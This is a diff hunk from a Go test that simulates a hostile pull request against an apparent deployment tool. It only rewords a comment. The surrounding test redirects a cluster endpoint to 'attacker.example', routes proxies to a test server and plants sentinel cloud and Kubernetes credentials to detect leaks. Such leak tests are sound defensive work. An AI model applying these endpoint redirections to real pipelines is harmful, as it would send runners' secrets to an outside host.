@@ -210,7 +210,7 @@ func TestHostilePullRequest(t *testing.T) {
 "clusters":[{"name":"a","cluster":{"server":"https://%s"}}],"users":[{"name":"a","user":{"token":"SENTINEL-of-the-cluster"}}]}`, server.Addr()), 0o600))
 	h.edit("main.fleet.hcl", `"https://api.${env.name}.acme.dev:6443"`, fmt.Sprintf("%q", "https://attacker.example:"+strings.Split(server.Addr().String(), ":")[1]))
 	h.edit("fleets.fleet.hcl", "https://artifacts.acme.dev", "https://"+server.Addr().String())
-	// More than a runner has by itself: leftovers of a person.
+	// Variables that a runner may have in its environment, besides its own.
 	h.env = append(h.env, "PLANTED=SENTINEL-of-the-environment", "KUBECONFIG="+kubeconfig, "SCW_API_URL=http://"+server.Addr().String(), "SCW_ACCESS_KEY=SCWSENTINEL000000000", "SCW_SECRET_KEY=5a4d6b3c-0000-4000-8000-5e4713e10000",
 		"HTTPS_PROXY=http://"+server.Addr().String(), "HTTP_PROXY=http://"+server.Addr().String(), "GODEBUG=netdns=go+2")
 
